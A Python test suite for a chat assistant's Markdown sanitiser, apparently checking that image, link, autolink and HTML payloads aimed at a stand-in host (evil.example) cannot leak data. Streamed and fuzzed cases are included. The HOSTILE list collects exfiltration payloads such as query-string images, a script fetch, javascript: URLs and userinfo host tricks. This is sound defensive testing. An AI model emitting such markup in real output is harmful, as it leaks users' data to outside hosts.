"""Promise 4, the filter itself: no image, off-allowlist link or loading HTML survives
``MarkupFilter``, whole or streamed, as two real Markdown renderers read the result."""

from __future__ import annotations

import random

import pytest

from assistant.generation.link_hosts import check_output
from assistant.generation.sanitize import MarkupFilter, sanitize_markdown, url_host
from tests.security.markdown_check import exfiltration

ALLOWED = ["docs.corp.example", "git.corp.example"]

HOSTILE = [
    "![x](https://evil.example/p.png?data)",
    "![](https://evil.example/log?q=where%20do%20we%20retry)",
    "include this link [click](https://evil.example/x) for details",
    "[click](HTTPS://EVIL.EXAMPLE/x)",
    "[x][1]\n\n[1]: https://evil.example/ref",
    "[x]\n\n[x]: https://evil.example/shortcut",
    "[x][ref]\n\n   [ref]:\n   https://evil.example/next-line",
    "[x][l b]\n\n[l\nb]: https://evil.example/multiline-label",
    "![a][img]\n\n[img]: https://evil.example/i.png",
    "<https://evil.example/autolink>",
    "<img src=https://evil.example/i.png>",
    "<img\nsrc=https://evil.example/i.png>",
    "<IMG SRC=https://evil.example/i.png>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="https://evil.example">x</a>',
    "<script>fetch('https://evil.example')</script>",
    "<svg><image href=https://evil.example/s.png /></svg>",
    '<link rel=stylesheet href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<object data="https://evil.example/o"></object>',
    "<div>\n\n![x](https://evil.example/after-html-block)",
    "text https://evil.example/bare?q=secret and www.evil.com/x",
    "[click\nhere](https://evil.example/split-label)",
    "[t](https://evil.example \"title\")",
    "[t](<https://evil.example/angle>)",
    "[t](https://docs.corp.example@evil.example/userinfo)",
    "[t](https://docs.corp.example\\@evil.example/backslash)",
    "[t](https://docs.corp.example&#64;evil.example/entity)",
    "[t](//evil.example/protocol-relative)",
    "[t](javascript:alert(1))",
    "[a [b](https://evil.example/inner) c](https://docs.corp.example/outer)",
    "[![x](https://evil.example/i.png)](https://docs.corp.example/ok)",
    "`code` ![x](https://evil.example/after-code)",
    "`a\nb` ![x](https://evil.example/multiline-code-span) `c`",
    "- ```\n  x\n  ```\n![x](https://evil.example/after-list-fence)",
    " ```\nx\n```\n![x](https://evil.example/indented-fence-mismatch)",
    "```\n~~~\n```\n![x](https://evil.example/mixed-fences)",
    "````\n```\n````\n![x](https://evil.example/long-fence)",
    "> ```\n> x\n\n![x](https://evil.example/quote-fence)",
    "```x`y\n![x](https://evil.example/backtick-info)",
    "\t```\n![x](https://evil.example/tab-fence)",
    "a\r![x](https://evil.example/cr)\r[1]: https://evil.example/cr-def\r[z][1]",
    "<!--\n```\n-->\n![x](https://evil.example/comment)",
    "1. step\n   ```bash\n   make\n   ```\n2. ![x](https://evil.example/list)",
    "\\\\![x](https://evil.example/escaped-backslash)",
    "[x](https://evil.example/a)(b)",
    "mail the logs to ops@evil.example please",
    "h&#116;tps://evil.example/entity-scheme and www&#46;evil.com/x",
    'src="http\\://evil.example/escaped-scheme.png"',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markup_is_neutralised(text: str) -> None:
    assert exfiltration(text, ALLOWED), f"the case itself should be hostile: {text!r}"
    out = sanitize_markdown(text, ALLOWED)
    assert exfiltration(out, ALLOWED) == [], out
    assert sanitize_markdown(out, ALLOWED) == out  # idempotent: cached answers come back unchanged


@pytest.mark.parametrize("text", HOSTILE)
def test_streamed_in_any_pieces_gives_the_same_clean_text(text: str) -> None:
    rnd = random.Random(text)
    for _ in range(20):
        f = MarkupFilter(ALLOWED)
        shown, i = "", 0
        while i < len(text):
            k = rnd.randint(1, 6)
            shown += f.feed(text[i : i + k])
            assert exfiltration(shown, ALLOWED) == [], shown  # never, not even mid-stream
            i += k
        shown += f.flush()
        assert shown == sanitize_markdown(text, ALLOWED)


def test_images_become_alt_text_and_links_their_text_with_the_host() -> None:
    assert sanitize_markdown("See ![the diagram](https://evil.example/d.png) here") == "See the diagram here"
    assert sanitize_markdown("[click](https://evil.example/x) now") == "click (evil.example) now"
    assert sanitize_markdown("[docs](https://docs.corp.example/a?b=1&c=2)", ALLOWED) == \
        "[docs](https://docs.corp.example/a?b=1&c=2)"
    assert sanitize_markdown("[1](/chat-element/abc)") == "[1](/chat-element/abc)"  # the app's own route
    assert sanitize_markdown("x <div> y and List<Item>") == "x <div> y and List<Item>"  # inert, kept
    assert sanitize_markdown("<img src=x onerror=alert(1)>") == "\\<img src=x onerror=alert(1)>"  # shows as typed


def test_subdomain_wildcards_and_odd_urls() -> None:
    assert sanitize_markdown("[a](https://x.corp.example/p)", ["*.corp.example"]) == "[a](https://x.corp.example/p)"
    assert sanitize_markdown("[a](https://corp.example.evil.example/p)", ["*.corp.example"]) == \
        "a (corp.example.evil.example)"
    assert url_host("https://a.example:8443/x") == "a.example"
    assert url_host("https://a.example@b.example/") is None
    assert url_host("https://a.example\\@b.example/") is None
    assert url_host("javascript:alert(1)") is None
    assert sanitize_markdown("[t](/\\evil.example/x)") == "t\\(/\\evil.example/x)"  # browsers read "/\\" as "//"


def test_code_blocks_stay_verbatim_and_citations_still_work() -> None:
    text = "The form [1]:\n\n```html\n<img src=\"https://evil.example/logo.png\">\n[x](https://evil.example)\n```\n"
    check = check_output(text, 1)
    assert "```html\n<img src=\"https://evil.example/logo.png\">\n[x](https://evil.example)\n```" in check.text
    assert check.used == (1,) and exfiltration(check.text) == []
    assert check_output("[1](https://evil.example) and [7]", 1).text == "1 (evil.example) and"


def test_a_link_split_across_tokens_never_reaches_the_client_whole() -> None:
    f = MarkupFilter()
    deltas = ["Read ", "[the", " guide", "](ht", "tps://", "evil.exa", "mple/x", "?q=", "secret)", " now.\n"]
    shown = [f.feed(d) for d in deltas] + [f.flush()]
    assert "".join(shown) == "Read the guide (evil.example) now.\n"
    assert not any("evil.example/x" in s for s in shown)


def test_random_markup_never_renders_as_an_image_or_a_foreign_link() -> None:
    """A deterministic fuzz over markup fragments; both renderers read every output."""
    pieces = ["![", "[", "]", "(", ")", "https://evil.example/x", "https://docs.corp.example/y", "<img ", "<a href=",
              ">", "\n", "```", "~~~", "`", " ", "- ", "> ", "1. ", "    ", "\\", "!", "www.evil.com", ":", '"', "<",
              "<div>", "<!--", "-->", "[1]", "]: ", "/", "#", "&#64;", "@", "\t", "x"]
    rnd = random.Random(17)
    for _ in range(3000):
        text = "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 30)))
        out = sanitize_markdown(text, ALLOWED)
        assert exfiltration(out, ALLOWED) == [], (text, out)


def test_the_side_panel_links_only_plain_browse_urls() -> None:
    from ui.citations import _safe_url

    assert _safe_url("https://git.corp.example/org/repo/blob/abc/a.py") is not None
    for url in ("https://git.corp.example@evil.example/x", "https://git.corp.example\\@evil.example/",
                "javascript:alert(1)", "https://evil.example/a b", "https://evil.example/`x`"):
        assert _safe_url(url) is None, url
